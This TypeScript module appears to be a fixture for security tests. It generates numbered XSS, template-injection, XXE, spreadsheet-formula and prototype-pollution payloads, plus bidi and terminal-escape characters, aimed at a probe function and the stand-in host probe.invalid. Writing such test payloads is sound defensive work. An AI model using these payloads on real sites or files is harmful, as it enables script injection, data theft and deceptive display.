/** Name of the function that payloads call; pages get it as a binding that records the call. */
export const PROBE = "culpritProbe";
/** Host from which payloads load images, styles and scripts. */
export const FOREIGN_HOST = "probe.invalid";
/** Element and attribute that exist only if a payload became markup. */
export const PROBE_ELEMENT = "culprit-probe";
export const PROBE_ATTRIBUTE = "data-culprit-probe";

/** Ways to leave the text, attribute, element or comment around a payload. */
const CONTEXTS = ["", '">', "'>", "</title></style></script></textarea>", "--></svg>]]>"];

/** Markup that runs a script or loads something. CALL calls the probe, URL is a foreign address. */
const MARKUP = [
  "<script>CALL</script>",
  "<script src=URL></script>",
  "<script type=module src=URL></script>",
  "<ScRiPt/x>CALL</sCrIpT>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<img src=x onerror=CALL>",
  '<img/src="x"/onerror=CALL>',
  "<img src=URL>",
  "<image href=URL onerror=CALL>",
  "<svg/onload=CALL>",
  "<svg><script>CALL</script></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=CALL>",
  "<svg><use href=URL#x></svg>",
  "<svg><image href=URL></svg>",
  "<svg><foreignObject><body onload=CALL></foreignObject>",
  "<svg><a href=javascript:CALL><text y=9>x</text></a></svg>",
  "<math><mi xlink:href=javascript:CALL>x</mi></math>",
  "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
  "<iframe src=javascript:CALL></iframe>",
  "<iframe src=URL></iframe>",
  "<object data=URL></object>",
  "<embed src=javascript:CALL>",
  "<body onload=CALL>",
  "<body background=URL>",
  "<details open ontoggle=CALL>x</details>",
  "<input autofocus onfocus=CALL>",
  "<select autofocus onfocus=CALL></select>",
  "<video src=x onerror=CALL></video>",
  "<video poster=URL></video>",
  "<audio src=URL onerror=CALL></audio>",
  "<marquee onstart=CALL>x</marquee>",
  "<a href=javascript:CALL>x</a>",
  "<a href=URL ping=URL>x</a>",
  "<form action=javascript:CALL><button>x</button></form>",
  "<button formaction=javascript:CALL>x</button>",
  "<meta http-equiv=refresh content='0;url=URL'>",
  "<base href=URL>",
  "<link rel=stylesheet href=URL>",
  "<link rel=preload as=image href=URL>",
  "<style>@import 'URL'</style>",
  "<style>*{background:url(URL)}</style>",
  "<p style=background:url(URL)>x</p>",
  "<template><script>CALL</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  `<${PROBE_ELEMENT}>x</${PROBE_ELEMENT}>`,
];

/** Ways to become an attribute, a link, a style, code of a template, or a cell of a sheet without an element of its own. */
const WITHOUT_ELEMENT = [
  `" ${PROBE_ATTRIBUTE}="`,
  `' ${PROBE_ATTRIBUTE}='`,
  `x ${PROBE_ATTRIBUTE}=x`,
  `" onmouseover="CALL" ${PROBE_ATTRIBUTE}="`,
  `\` onmouseover=CALL ${PROBE_ATTRIBUTE}=\``,
  '" autofocus onfocus="CALL',
  '" style="background:url(URL)',
  "javascript:CALL",
  "JaVaScRiPt:CALL",
  "java\tscript:CALL",
  "data:text/html,<script>CALL</script>",
  "vbscript:CALL",
  "[x](javascript:CALL)",
  "![x](URL)",
  '[x](URL "onmouseover=CALL")',
  "<javascript:CALL>",
  "[x]: javascript:CALL",
  "{{constructor.constructor('CALL')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
  "${CALL}",
  "#{CALL}",
  "<%= CALL %>",
  "';CALL;'",
  '";CALL;"',
  "\\u003cscript>CALL\\u003c/script>",
  "&lt;script&gt;CALL&lt;/script&gt;",
  "%3Cscript%3ECALL%3C/script%3E",
  "+ADw-script+AD4-CALL+ADw-/script+AD4-",
  "<!--<script>CALL",
  "<![CDATA[<script>CALL</script>]]>",
  "<?xml-stylesheet href='URL'?>",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'URL'>]>&e;",
  "url(URL)",
  "};*{background:url(URL)}",
  '=HYPERLINK("URL";"x")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "__proto__",
  "constructor",
  "select * from t; -- '><svg/onload=CALL>",
];

/** Characters that move, hide or reorder the text around them. */
const APPEARANCE = [
  "safe\u202egpj.exe",
  "\u202dleft\u202c",
  "\u2066isolate\u2069",
  "\u2067turned\u2069",
  "\u200fmark\u200e",
  "\u061cmark",
  "\ufeffhidden",
  "esc \u001b[31mred\u001b[0m",
  "esc \u001b]0;title\u0007",
  "esc \u001b[2K\u001b[1Ghost is healthy",
  "c1 \u009b31mred",
  "bell\u0007 back\bspace",
  "del\u007f nel\u0085",
];

export interface Payload {
  number: number;
  text: string;
}

/** Characters that must not be in any text of a page, an export or a terminal, where they come from others. */
export const HIDDEN_CHARACTERS = /(?![\t\n\r])[\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u;

const fill = (template: string, number: number): string =>
  template.replaceAll("CALL", `${PROBE}(${number})`).replaceAll("URL", `http://${FOREIGN_HOST}/${number}`);

/** All payloads. The number of a payload is in its calls and addresses. */
export const PAYLOADS: readonly Payload[] = [
  ...MARKUP.flatMap((markup) => CONTEXTS.map((context) => context + markup)),
  ...WITHOUT_ELEMENT,
  ...APPEARANCE,
].map((template, number) => ({ number, text: fill(template, number) }));

/** Return an endless source of payload texts that starts at another payload for each `salt`. */
export function cyclePayloads(salt: number, change: (text: string) => string = (text) => text): () => string {
  // 37 has no factor in common with the number of payloads, so that all are returned before one is repeated.
  let at = salt * 37;
  return () => {
    at += 37;
    return change(PAYLOADS[at % PAYLOADS.length]?.text ?? "");
  };
}
